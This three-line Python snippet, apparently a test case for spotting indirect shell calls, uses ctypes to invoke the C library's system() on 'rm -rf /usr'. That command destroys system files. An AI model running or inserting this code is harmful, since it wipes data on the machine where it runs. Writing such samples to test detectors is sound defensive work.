# tricky: the C library's system()
import ctypes
ctypes.CDLL(None).system(b"rm -rf /usr")
